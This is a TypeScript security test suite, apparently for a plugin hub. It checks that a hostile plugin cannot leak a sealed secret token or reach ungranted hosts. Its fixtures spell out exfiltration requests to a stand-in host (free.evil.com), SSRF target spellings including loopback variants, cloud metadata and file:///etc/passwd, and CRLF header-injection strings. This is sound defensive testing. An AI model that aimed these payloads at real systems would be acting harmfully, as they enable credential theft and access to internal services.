/** Plugins that try to get the plain value of a sealed secret, or a request to where they may not send one, out of the real hub. */
import assert from "node:assert/strict";
import { createHash, createHmac } from "node:crypto";
import type { IncomingMessage, ServerResponse } from "node:http";
import { after, before, describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import { startServer, type TestServer } from "../../../src/egress/test-server.ts";
import { startTestHub, type TestHub, until } from "../../kit/start-test-hub.ts";
import { act, assertClean, everythingRecorded, installPuppet, type Outcome, publishPuppet, use } from "./act.ts";
import { puppet } from "./puppet.ts";

let vendor: TestServer;
let hub: TestHub;
const org = "exfil";
const id = "evil.exfil";
const secret = 's3cr3t/Val+ue="quoted"&4711';
const second = "0ther-s3cret-8822";
const spellings = [
  secret,
  "s3cr3t",
  Buffer.from(secret).toString("base64"),
  Buffer.from(secret).toString("hex"),
  encodeURIComponent(secret),
  second,
];
const kept = new Map<string, string>();
const arrived: { host: string; url: string; headers: IncomingMessage["headers"]; body: string }[] = [];

/** The vendor: honest about what it was sent, in every place and spelling an answer has. */
function serve(request: IncomingMessage, response: ServerResponse): void {
  const parts: Buffer[] = [];
  request.on("data", (part: Buffer) => parts.push(part));
  request.on("end", () => {
    const body = Buffer.concat(parts).toString();
    const url = new URL(request.url ?? "/", `http://${request.headers.host}`);
    const token = String(request.headers["x-token"] ?? url.searchParams.get("token") ?? body);
    const latin1 = Buffer.from(token, "latin1").toString("utf8");
    arrived.push({ host: String(request.headers.host), url: String(request.url), headers: request.headers, body });
    switch (url.pathname) {
      case "/echo":
        response.writeHead(200, "OK", {
          "content-type": "application/json",
          "x-echo": token.replace(/[^\x20-\x7e]/g, "?"),
        });
        return response.end(
          JSON.stringify({
            token,
            latin1,
            base64: Buffer.from(latin1).toString("base64"),
            hex: Buffer.from(latin1).toString("hex"),
            form: encodeURIComponent(latin1),
            headers: request.headers,
            url: request.url,
            body,
          }),
        );
      case "/status":
        response.writeHead(418, `no ${second}`, { "x-echo": token.replace(/[^\x20-\x7e]/g, "?") });
        return response.end(body);
      case "/gzip":
        response.writeHead(200, { "content-encoding": "gzip" });
        return response.end(gzipSync(`${token} ${latin1} ${body}`));
      case "/keep":
        kept.set("kept", latin1);
        return response.end("kept");
      case "/kept":
        return response.end(`it was ${kept.get("kept")}`);
      case "/redirect": {
        const to = url.searchParams.get("to") ?? "";
        response.writeHead(Number(url.searchParams.get("status") ?? 302), {
          location: to.replaceAll("TOKEN", encodeURIComponent(latin1)),
        });
        return response.end();
      }
      case "/hints":
        return response.end("nothing");
      default:
        return response.end(request.url);
    }
  });
}

const fetch = async (
  request: object,
): Promise<Outcome & { value?: { status: number; text: string; headers: Record<string, string> } }> =>
  act(hub, org, id, "fetch", request);
const token = { $config: "token" };
const noSecretIn = (outcome: unknown): void => assertClean(JSON.stringify(outcome), spellings);

describe("exfiltration", { timeout: 60_000 }, () => {
  before(async () => {
    vendor = await startServer(serve);
    hub = await startTestHub({
      egressOverride: JSON.stringify({
        "api.vendor.com": vendor.origin,
        "free.evil.com": vendor.origin,
        "127-0-0-1.vendor.com": vendor.origin,
      }),
    });
    await hub.organization(org);
    await hub.organization("exfil-b");
    const manifest = {
      id,
      permissions: [
        "network:outbound:api.vendor.com",
        "network:outbound:free.evil.com",
        "network:outbound:localtest.me",
        "network:inbound",
        "event:publish:exfil.*",
        "storage:write",
        "storage:read",
      ],
      configSchema: {
        type: "object",
        properties: {
          token: { type: "string", format: "secret", hosts: ["api.vendor.com"] },
          other: { type: "string", format: "secret", hosts: ["api.vendor.com"] },
          note: { type: "string" },
          free: { type: "object", additionalProperties: true },
        },
      },
    };
    await installPuppet(hub, org, puppet(manifest), { config: { token: secret, other: second } });
    await installPuppet(hub, "exfil-b", puppet(manifest), {
      config: { token: "of-another-organisation", other: "x".repeat(20) },
    });
  });
  after(async () => {
    await hub.close({ drainMs: 0 });
    await vendor[Symbol.asyncDispose]();
  });

  it("the secret does reach the vendor, or none of the rest means anything", async () => {
    arrived.length = 0;
    const answer = await fetch({
      url: "https://api.vendor.com/echo",
      method: "POST",
      body: { $join: [token] },
      headers: { "content-type": "text/plain" },
    });
    assert.equal(answer.ok, true, answer.message);
    assert.equal(arrived[0]!.body, secret);
    noSecretIn(answer);
  });

  it("a vendor that echoes it in header, body, JSON, base64, hex, percent, gzip or status text gives the plugin nothing", async () => {
    for (const path of ["echo", "gzip", "status"]) {
      noSecretIn(await fetch({ url: `https://api.vendor.com/${path}`, headers: { "x-token": { $config: "other" } } }));
      noSecretIn(await fetch({ url: { $join: [`https://api.vendor.com/${path}?token=`, token] } }));
      noSecretIn(
        await fetch({ url: `https://api.vendor.com/${path}`, method: "POST", body: { $join: ["pre", token, "post"] } }),
      );
      noSecretIn(
        await fetch({
          url: `https://api.vendor.com/${path}`,
          method: "POST",
          body: JSON.stringify({ a: 1 }),
          headers: { authorization: { $join: ["Bearer ", { $config: "other" }] } },
        }),
      );
    }
  });

  it("a vendor that gives it back in a later answer, to a request that did not use it, gives nothing either", async () => {
    const kept = await fetch({ url: "https://api.vendor.com/keep", method: "POST", body: { $join: [token] } });
    assert.equal(kept.ok, true, kept.message);
    const later = await fetch({ url: "https://api.vendor.com/kept" });
    assert.equal(later.ok, true, later.message);
    noSecretIn(later);
  });

  it("it goes to no other host: not granted ones, not in paths, hosts, names of headers, and not by redirects", async () => {
    arrived.length = 0;
    const tries: object[] = [
      { url: "https://free.evil.com/echo", headers: { "x-token": token } },
      { url: { $join: ["https://free.evil.com/echo?token=", token] } },
      { url: "https://free.evil.com/echo", method: "POST", body: { $join: [token] } },
      { url: { $join: ["https://api.vendor.com/", token] } },
      { url: { $join: ["https://", token, "@free.evil.com/"] } },
      { url: { $join: ["https://", token, ".free.evil.com/"] } },
      {
        url: "https://api.vendor.com/redirect?to=https%3A%2F%2Ffree.evil.com%2Fecho%3Ftoken%3DTOKEN",
        headers: { "x-token": token },
      },
      {
        url: "https://api.vendor.com/redirect?to=https%3A%2F%2Ffree.evil.com%2Fecho&status=307",
        method: "POST",
        body: { $join: [token] },
      },
      {
        url: "https://api.vendor.com/redirect?to=https%3A%2F%2Ffree.evil.com%2Fecho&status=308",
        method: "POST",
        body: { $join: [token] },
        headers: { authorization: { $join: ["Bearer ", token] } },
      },
      {
        url: "https://api.vendor.com/redirect?to=%2F%2Ffree.evil.com%2Fecho",
        headers: { "x-token": token, cookie: { $join: ["a=", token] } },
      },
      {
        url: "https://api.vendor.com/redirect?to=https%3A%2F%2Ffree.evil.com%2FTOKEN",
        headers: { "x-token": token },
        redirect: "manual",
      },
      { url: "https://free.evil.com/redirect?to=https%3A%2F%2Fapi.vendor.com%2Fecho", headers: { "x-token": token } },
    ];
    for (const request of tries) noSecretIn(await fetch(request));
    const leaked = arrived.filter(
      ({ host, url, headers, body }) =>
        host === "free.evil.com" && spellings.some((text) => JSON.stringify([url, headers, body]).includes(text)),
    );
    assert.deepEqual(leaked, []);
    const inPath = arrived.filter(({ url }) => url.split("?")[0]!.includes("s3cr3t"));
    assert.deepEqual(inPath, []);
  });

  it("handles that are forged, cut, or of another installation open nothing", async () => {
    const strange = JSON.stringify(await act(hub, "exfil-b", id, "config")).match(/bpsec\.v1\.[\w-]+\.[\w-]{27}/)![0];
    const own = JSON.stringify(await act(hub, org, id, "config")).match(/bpsec\.v1\.token\.[\w-]{27}/)![0];
    assert.notEqual(strange, own);
    arrived.length = 0;
    for (const handle of [
      strange,
      own.replace(/.$/, "A"),
      own.replace("token", "other"),
      `bpsec.v1.token.${"A".repeat(27)}`,
    ])
      assert.equal(
        (await fetch({ url: "https://api.vendor.com/echo", headers: { "x-token": handle } })).code,
        "secret_misused",
        handle,
      );
    await fetch({ url: "https://api.vendor.com/echo", headers: { "x-token": own.slice(0, -1) } });
    await fetch({ url: "https://api.vendor.com/echo", headers: { "x-token": own.toUpperCase() } });
    assert.equal(JSON.stringify(arrived).includes("of-another-organisation"), false);
    assert.equal(
      (await use(hub, org, id, "crypto.hmac", { key: strange, data: "x", encoding: "hex" })).code,
      "secret_misused",
    );
  });

  it("a keyed hash is all that crypto tells of it: no digest, raw key, encoding or comparison of parts", async () => {
    const mac = await use(hub, org, id, "crypto.hmac", { key: token, data: "message", encoding: "hex" });
    assert.equal(mac.value, createHmac("sha256", secret).update("message").digest("hex"));
    const digest = await use(hub, org, id, "crypto.digest", "SHA-256", token);
    assert.notDeepEqual(
      digest.value.bytes,
      [...createHash("sha256").update(secret).digest()],
      "a digest is of the handle",
    );
    const asData = await use(hub, org, id, "crypto.hmac", { key: "known", data: token, encoding: "hex" });
    assert.notEqual(asData.value, createHmac("sha256", "known").update(secret).digest("hex"));
    assert.equal((await use(hub, org, id, "crypto.timingSafeEqual", token, secret)).value, true);
    for (const part of ["s", secret.slice(0, -1), `${secret}x`, ""])
      assert.equal((await use(hub, org, id, "crypto.timingSafeEqual", token, part)).value, false);
    noSecretIn(await act(hub, org, id, "config"));
  });

  it("logs, results, errors, events, storage, progress and webhook answers hold handles, whatever the plugin writes", async () => {
    // A plugin that learnt a value in another way (it is in an answer, say, in a spelling nobody knows) may still not log it.
    const log = (...args: unknown[]) => use(hub, org, id, "logger.info", ...args);
    await log(`token ${secret}`);
    await log("in data", { deep: [{ [second]: secret }], base64: Buffer.from(secret).toString("base64") });
    await log(`${"x".repeat(8_192 - second.length + 4)}${second}`);
    await log("x".repeat(20_000), { pad: "y".repeat(16_384 - 8), second });
    await use(hub, org, id, "emitEvent", "exfil.one", token);
    await use(hub, org, id, "storage.put", "a", { $join: [token] });
    assert.equal((await hub.call(org, id, "fail", { message: `401 for ${second}`, name: secret })).status, 502);
    await hub.request("POST", `/webhooks/${org}/${id}`, {
      token: null,
      body: { answer: { status: 500, body: "no", accept: [{ id: "1" }] } },
    });
    const logs = await until(async () => {
      const { body } = await hub.request("GET", `/api/plugins/${id}/logs?limit=200`, { org });
      return body.logs.length >= 4 && body.logs;
    });
    assertClean(JSON.stringify(logs), spellings);
    assertClean(JSON.stringify(logs), [second.slice(0, -4)]);
    const { body } = await hub.request("GET", `/api/executions?plugin=${id}&limit=200`, { org });
    assertClean(
      JSON.stringify(
        body.executions
          .filter((row: { contribution: string }) => row.contribution === "fail")
          .map((row: { error: unknown }) => row.error),
      ),
      [second],
    );
  });

  it("nothing that the hub has recorded, audits, dead letters and metrics included, holds it in any spelling", async () => {
    await hub.hub.recorder.flush();
    // What the tests themselves sent as parameters is theirs.
    const recorded = (await everythingRecorded(hub)).split("\n").slice(1).join("\n");
    for (const text of [
      secret,
      JSON.stringify(secret).slice(1, -1),
      Buffer.from(secret).toString("base64"),
      encodeURIComponent(secret),
    ])
      assert.equal(recorded.includes(text), false, text);
    const metrics = await hub.hub.metrics();
    assertClean(metrics.body, spellings);
    const { text } = await hub.request("GET", `/api/plugins/${id}`, { org });
    assertClean(text, spellings);
    assert.doesNotMatch(text, /eyJ|sealed/);
  });

  it("a sealed record that a client sends as config is text or refused, never opened", async () => {
    const stored = await hub.hub.store.db
      .selectFrom("installations")
      .select("config")
      .where("organization_id", "=", org)
      .where("plugin_id", "=", id)
      .executeTakeFirstOrThrow();
    const sealed = (stored.config as unknown as { token: { $sealed: string } }).token;
    assert.match(sealed.$sealed, /^eyJ/);
    const put = (where: string, config: object) =>
      hub.request("PUT", `/api/plugins/${id}/config`, { org: where, body: config });
    assert.equal((await put("exfil-b", { token: sealed })).status, 400);
    assert.equal(
      (await put("exfil-b", { token: JSON.stringify(sealed) })).status,
      200,
      "a string is a new secret of that text",
    );
    assert.equal((await put("exfil-b", { token: "********", free: { copied: sealed, token: sealed } })).status, 200);
    const shown = await act(hub, "exfil-b", id, "config");
    assertClean(JSON.stringify(shown), spellings);
    // A later version declares the place where it was smuggled in as a secret of its own, shown in plain.
    const next = {
      id,
      version: "2.0.0",
      permissions: ["network:outbound:api.vendor.com"],
      configSchema: {
        type: "object",
        properties: {
          free: {
            type: "object",
            properties: {
              token: { type: "string", format: "secret", hosts: ["api.vendor.com"], expose: true },
              copied: { type: "string", format: "secret", hosts: ["api.vendor.com"], expose: true },
            },
          },
        },
      },
    };
    await publishPuppet(hub, "exfil-b", puppet(next));
    await hub.request("POST", `/api/plugins/${id}/upgrade`, { org: "exfil-b", body: { version: "2.0.0" } });
    await hub.request("PUT", `/api/plugins/${id}/grants`, { org: "exfil-b", body: { grants: "all" } });
    await hub.request("POST", `/api/plugins/${id}/activate`, { org: "exfil-b" });
    assertClean((await hub.call("exfil-b", id, "config")).text, spellings);
  });

  it("masks open nothing: not for a field that had no value, not in another field, not in part", async () => {
    const put = (config: object) => hub.request("PUT", `/api/plugins/${id}/config`, { org, body: config });
    assert.equal((await put({ token: "********", other: "********", note: "********" })).status, 200);
    assert.equal((await act(hub, org, id, "config")).note, "********");
    assert.equal((await put({ token: "********", note: "x" })).status, 200, "the other secret is removed");
    assert.equal((await put({ token: "********", other: "********" })).status, 400);
    assert.equal((await put({ token: "*********" })).status, 200, "any other text is a new value");
    assert.equal((await put({ token: secret, other: second })).status, 200);
  });

  it("no spelling of a private address, port, scheme or user gets a request out of ctx.http, with overrides set or not", async () => {
    const targets =
      `http://api.vendor.com:80@127.0.0.1/ https://127.0.0.1/ https://127.1/ https://2130706433/ https://0x7f000001/ https://0177.0.0.1/ https://127.0.0.1.nip.io/
      https://[::1]/ https://[::ffff:127.0.0.1]/ https://[::ffff:7f00:1]/ https://[fe80::1%25lo]/ https://[0:0:0:0:0:0:0:1]/ https://localhost/ https://localhost./ https://LOCALHOST/ https://api.localhost/
      https://169.254.169.254/latest/meta-data https://0/ https://0.0.0.0/ https://10.0.0.1/ https://api.vendor.com./ https://api.vendor.com:${vendor.port}/ https://api.vendor.com:7400/
      https://user:pass@api.vendor.com/ https://api.vendor.com@free.evil.org/ https://api.vendor.com%2f@evil.org/ https://api.vendor.com\\@evil.org/ https:api.vendor.com https:///api.vendor.com/ //api.vendor.com/
      file:///etc/passwd ftp://api.vendor.com/ gopher://api.vendor.com/ data:text/plain,hi blob:https://api.vendor.com/x javascript:alert(1) ws://api.vendor.com/ unix:/tmp/x
      https://api。vendor。com/ https://ａpi.vendor.com/ https://api.vendor.com%00.evil.org/ https://api.vendor.com#@evil.org:1/ https://evil.org/api.vendor.com https://xapi.vendor.com/ https://sub.api.vendor.com/ https://vendor.com/`
        .split(/\s+/)
        .filter((target) => target !== "");
    arrived.length = 0;
    const outcomes: Outcome[] = [];
    for (let n = 0; n < targets.length; n += 15)
      outcomes.push(
        ...(await act(hub, org, id, "fetches", { requests: targets.slice(n, n + 15).map((url) => ({ url })) })),
      );
    const passed = outcomes.flatMap(({ ok }, n) => (ok ? [targets[n]] : []));
    // Spellings that a browser, too, reads as the granted host went there and nowhere else.
    for (const target of passed) assert.equal(new URL(String(target)).hostname, "api.vendor.com", target);
    assert.ok(
      arrived.every(({ host }) => host === "api.vendor.com"),
      JSON.stringify(arrived.map(({ host }) => host)),
    );
    for (const outcome of outcomes) noSecretIn(outcome);
    const redirects = [
      "http://127.0.0.1/",
      "https://169.254.169.254/",
      "file:///etc/passwd",
      `http://127.0.0.1:${vendor.port}/`,
      "https://localhost/",
      "https://ungranted.vendor.com/",
      "//[::1]/",
      "javascript:1",
    ];
    for (const to of redirects) {
      const { ok, code } = await fetch({ url: `https://api.vendor.com/redirect?to=${encodeURIComponent(to)}` });
      assert.equal(ok, false, to);
      assert.match(String(code), /egress_denied|egress_failed/);
    }
  });

  it("a name whose addresses are private is refused whole, and says nothing of the address", async () => {
    const { ok, message = "" } = await fetch({ url: "https://localtest.me/" });
    assert.equal(ok, false);
    assert.doesNotMatch(message, /127\.|::1|ECONN|ENOTFOUND/);
  });

  it("headers cannot be injected, and the hub's own cannot be set", async () => {
    arrived.length = 0;
    for (const headers of [
      { "x-a": "b\r\nx-evil: 1" },
      { "x-a\r\nx-evil": "1" },
      { "x a": "1" },
      { "x-a": "€" },
      { "x-a": "a\0" },
    ])
      await fetch({ url: "https://api.vendor.com/echo", headers });
    await fetch({
      url: "https://api.vendor.com/echo",
      method: "POST",
      body: "abc",
      headers: {
        host: "evil.org",
        "content-length": "1",
        "transfer-encoding": "chunked",
        connection: "x-token",
        "proxy-authorization": "a",
      },
    });
    await fetch({ url: "https://api.vendor.com/echo", method: "GE T" });
    await fetch({ url: "https://api.vendor.com/echo", method: "GET / HTTP/1.1\r\nx: " });
    for (const { host, headers } of arrived) {
      assert.equal(host, "api.vendor.com");
      for (const name of ["x-evil", "proxy-authorization"]) assert.equal(headers[name], undefined);
    }
  });
});
